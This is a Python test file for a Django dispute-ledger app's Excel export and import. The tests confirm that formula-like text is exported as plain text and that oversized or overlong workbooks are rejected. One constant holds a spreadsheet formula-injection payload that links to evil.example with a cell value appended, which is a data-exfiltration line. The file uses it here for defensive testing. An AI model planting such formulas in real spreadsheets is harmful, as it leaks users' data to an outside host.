"""The ledger's Excel export writes formula-like text as text; its import checks sizes first."""

import datetime as dt
import io
import zipfile

import pytest
import time_machine
from openpyxl import Workbook, load_workbook

from minxin.core.errors import ValidationFailed
from minxin.risk import ledger
from minxin.exchange.ledger import COLUMNS, export_ledger, import_ledger
from minxin.risk.models import DisputeEntry, RiskLevel
from minxin.risk.tests.factories import TZ, domain

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?"&K2,"点击查看")'


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(dt.datetime(2026, 4, 8, 9, 0, tzinfo=TZ), tick=False):
        yield


def test_export_writes_a_formula_like_summary_as_text(city):
    ledger.create_entry(
        actor=city.staff["east_leader"], source="grid", domain=domain("房地产"), area=city.areas["grid1"], summary=ATTACK,
        level=RiskLevel.YELLOW, level_reasons="业主多次聚集", responsible_unit=city.units["east_housing"],
        people_count=3, amount_wan="1", responsible_name="@张三",
    )
    content = export_ledger(city.staff["east_leader"])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    ws = load_workbook(io.BytesIO(content)).active
    summary, person = ws.cell(row=2, column=5), ws.cell(row=2, column=10)
    assert (summary.value, summary.data_type, summary.quotePrefix) == (ATTACK, "s", True)
    assert (person.value, person.data_type) == ("@张三", "s")


def test_import_refuses_a_workbook_that_unpacks_beyond_the_limit_and_writes_nothing(city, settings):
    settings.MINXIN_XLSX_MAX_UNPACKED_BYTES = 256 * 1024
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("台账")
    ws.append(COLUMNS)
    for i in range(20000):
        ws.append([i, "2026-03-01", "320902001001", "房地产", "同一句话" * 10])
    buf = io.BytesIO()
    wb.save(buf)
    with pytest.raises(ValidationFailed, match="解压后有"):
        import_ledger(io.BytesIO(buf.getvalue()), actor=city.staff["east_leader"])
    assert not DisputeEntry.objects.exists()


def test_import_refuses_more_rows_than_the_limit(city, settings):
    settings.MINXIN_XLSX_MAX_ROWS = 3
    wb = Workbook()
    wb.active.append(COLUMNS)
    for i in range(4):
        wb.active.append([i + 1, "2026-03-01"])
    buf = io.BytesIO()
    wb.save(buf)
    with pytest.raises(ValidationFailed, match="一次最多导入3行"):
        import_ledger(io.BytesIO(buf.getvalue()), actor=city.staff["east_leader"])
